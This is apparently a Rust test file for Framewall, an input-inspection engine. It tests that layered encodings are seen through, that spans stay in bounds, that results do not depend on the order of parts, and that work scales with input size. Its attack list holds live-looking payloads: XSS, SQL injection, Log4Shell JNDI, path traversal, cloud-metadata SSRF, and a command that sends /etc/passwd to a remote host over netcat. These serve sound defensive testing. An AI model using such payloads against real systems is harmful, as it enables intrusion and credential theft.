//! The engine with the rules that come with Framewall: no panic on any bytes, spans inside their part, disguises in any
//! order, parts in any order, work that grows as the text does.

use std::collections::BTreeSet;
use std::sync::LazyLock;

use framewall_core::engine::{Engine, Part, Report, Scratch, Settings};
use framewall_core::formats::Role;
use proptest::prelude::*;

mod builtin;

static ENGINE: LazyLock<Engine> = LazyLock::new(builtin::engine);

fn judge(bytes: &[u8], hint: &str, settings: &Settings) -> Report {
    ENGINE.inspect(&[Part { bytes, hint, role: Role::Value }], settings, &mut Scratch::default())
}

fn rules(report: &Report) -> BTreeSet<String> {
    report.findings.iter().map(|finding| finding.rule.to_string()).collect()
}

/// One way to hide a text; the engine reads it back.
type Disguise = fn(&str) -> String;

const DISGUISES: &[(&str, Disguise)] = &[
    ("percent", |text| text.bytes().map(|byte| format!("%{byte:02X}")).collect()),
    ("html", |text| text.chars().map(|character| format!("&#x{:x};", character as u32)).collect()),
    ("escapes", |text| text.chars().map(|character| format!("\\u{:04x}", character as u32)).collect()),
    ("hex", |text| text.bytes().map(|byte| format!("{byte:02x}")).collect()),
    ("fold", |text| {
        text.chars().map(|c| char::from_u32(c as u32 + 0xfee0).filter(|_| c.is_ascii_graphic()).unwrap_or(c)).collect()
    }),
];

const ATTACKS: &[(&str, &str)] = &[
    ("xss", "<script>alert(document.cookie)</script>"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("sqli", "1' UNION SELECT name, password FROM users-- "),
    ("sqli", "' or '1'='1"),
    ("rce", "; cat /etc/passwd | nc 203.0.113.9 4444"),
    ("jndi", "${jndi:ldap://203.0.113.9/a}"),
    ("path_traversal", "../../../../etc/passwd"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/"),
];

#[test]
fn two_disguises_in_either_order_are_seen_through() {
    for (attack, text) in ATTACKS {
        for (outer, hide) in DISGUISES {
            for (inner, hide_first) in DISGUISES {
                let report = judge(hide(&hide_first(text)).as_bytes(), "text", &Settings::default());
                assert!(
                    report.findings.iter().any(|finding| finding.attack.name() == *attack),
                    "{attack} in {inner} in {outer}: {:?}",
                    rules(&report)
                );
            }
        }
    }
}

#[test]
fn a_document_inside_a_leaf_has_no_span_in_the_part() {
    let text = serde_json::json!({"a": "[".repeat(200)}).to_string();
    let report = judge(text.as_bytes(), "json", &Settings::default());
    let depth = report.findings.iter().find(|finding| &*finding.rule == "data_bomb.format_depth").expect("it is deep");
    assert!(depth.chain.len() > 1, "{:?}", depth.chain);
    assert_eq!(depth.span, None);
}

/// Pieces that mean something to formats, views, literals and tokenisers.
fn hostile() -> impl Strategy<Value = Vec<u8>> {
    #[rustfmt::skip]
    let piece = prop::sample::select(vec![
        "{\"a\":", "[", "]", "}", "\"", "'", "`", "\\", "<", "</", ">", "<!DOCTYPE", "&lt;", "&#x3c;", "%3C", "%25", "%u003c",
        "\\u003c", "\\x3c", "\\74", "=3C", "+ADw-", "PHNjcmlwdD4=", "3c7363726970743e", "eyJhIjoxfQ", ".", "..", "/", "/*", "*/",
        "--", "#", ";", "|", "&", "=", "$", "${", "$(", "{{", "}}", "(", ")", ":", "@", "!", "%", " or ", "union select ",
        "script", "alert", "onload=", "javascript:", "jndi:ldap:", "__proto__", "constructor", "$ne", "http://", "0x7f", "cat ",
        "etc/passwd", "$IFS", "sleep(", "u{", "\u{200b}", "\u{ff1c}", "\u{301}", "\r\n", "\0", "O:1:\"a\":", "x", "1", " ",
    ]);
    prop_oneof![
        prop::collection::vec(any::<u8>(), 0..300),
        prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat().into_bytes()),
    ]
}

fn hint() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec!["auto", "text", "json", "form", "xml", "yaml", "msgpack", "cbor", "bson", "multipart"])
}

proptest! {
    #[test]
    fn any_bytes_under_any_hint_are_judged_with_spans_inside(bytes in hostile(), hint in hint(), level in 1u8..=3) {
        let report = judge(&bytes, hint, &Settings { sensitivity: level, ..Settings::default() });
        for finding in &report.findings {
            if let Some(span) = &finding.span {
                prop_assert!(span.start <= span.end && span.end <= bytes.len(), "{finding:?}");
            }
        }
    }

    #[test]
    fn parts_in_another_order_give_the_same_rules(one in hostile(), other in hostile()) {
        let settings = Settings::default();
        let part = |bytes| Part { bytes, hint: "text", role: Role::Value };
        let there = ENGINE.inspect(&[part(&one[..]), part(&other[..])], &settings, &mut Scratch::default());
        let back = ENGINE.inspect(&[part(&other[..]), part(&one[..])], &settings, &mut Scratch::default());
        prop_assert_eq!(rules(&there), rules(&back));
        prop_assert_eq!(there.score, back.score);
    }

    #[test]
    fn what_an_earlier_message_left_in_the_scratch_changes_nothing(one in hostile(), other in hostile()) {
        let settings = Settings::default();
        let part = |bytes| Part { bytes, hint: "auto", role: Role::Value };
        let mut scratch = Scratch::default();
        ENGINE.inspect(&[part(&one[..])], &settings, &mut scratch);
        let after = ENGINE.inspect(&[part(&other[..])], &settings, &mut scratch);
        prop_assert_eq!(rules(&after), rules(&judge(&other, "auto", &settings)));
    }
}

/// The least work with which a text is judged to its end, to within an eighth.
fn work(text: &[u8]) -> u64 {
    let spent = |work: u64| {
        let report = judge(text, "text", &Settings { work, ..Settings::default() });
        report.findings.iter().any(|finding| &*finding.rule == "data_bomb.scan_work")
    };
    let mut enough = 1 << 14;
    while spent(enough) {
        enough *= 2;
    }
    let (mut low, mut high) = (enough / 2, enough);
    while high - low > high / 8 {
        let middle = low.midpoint(high);
        if spent(middle) { low = middle } else { high = middle }
    }
    high
}

#[test]
fn four_times_the_text_is_at_most_eight_times_the_work() {
    for unit in
        ["word ", "'", "<a ", "{", "%25", "&lt;", "\\u003c", "=3C", "/*", "../", "' or ", "${j${", "a=b&", "\t \n"]
    {
        let [small, large] = [1 << 13, 1 << 15].map(|size| unit.repeat(size / unit.len()).into_bytes());
        let (small, large) = (work(&small), work(&large));
        assert!(large <= 8 * small, "{unit:?}: {small} for 8 KiB, {large} for 32 KiB");
    }
}

/// What costs most a byte: what the cost table measures, and what once was read again at every place in it.
const WORST: [&str; 30] = [
    "<!--",
    "<![CDATA[",
    "<?x ",
    "eyJ.",
    "eyJPHNjcmlwdD4",
    "a=b&",
    "a=b&\\x3c",
    "1=1",
    "onload=",
    "&lt;",
    "=3C",
    "\\u003c",
    "%25",
    "+A",
    "/*",
    "\t \n",
    "../",
    "../ ",
    "../+",
    ".$(",
    "$(/*",
    "|&",
    "|`",
    "' or ",
    "alert(1,",
    "${j${",
    "{%",
    "javascript:{%",
    "[=",
    "'",
];

#[test]
fn four_times_the_text_is_at_most_five_times_the_work_up_to_a_mebibyte() {
    for unit in WORST {
        let spent = [64, 256, 1024].map(|kib: usize| {
            let text = unit.repeat((kib << 10) / unit.len());
            judge(text.as_bytes(), "auto", &Settings::default()).work
        });
        for (small, large) in [(spent[0], spent[1]), (spent[1], spent[2])] {
            assert!(0 < small && large <= 5 * small, "{unit:?}: {spent:?} for 64 KiB, 256 KiB and 1 MiB");
        }
    }
}

#[test]
fn no_tokeniser_reads_a_window_anew_at_every_place_in_it() {
    // Work is charged before it is done, so only time tells; a window took up to 50 ms of it.
    for unit in ["../ ", "../+", ".$(", "$(.", "|&", "|`", "| ", "{% or "] {
        let text = unit.repeat(4096 / unit.len());
        let least = (0..5).map(|_| {
            let start = std::time::Instant::now();
            judge(text.as_bytes(), "auto", &Settings::default());
            start.elapsed()
        });
        let least = least.min().unwrap_or_default();
        assert!(least.as_millis() < 20, "{unit:?}: {least:?}");
    }
}
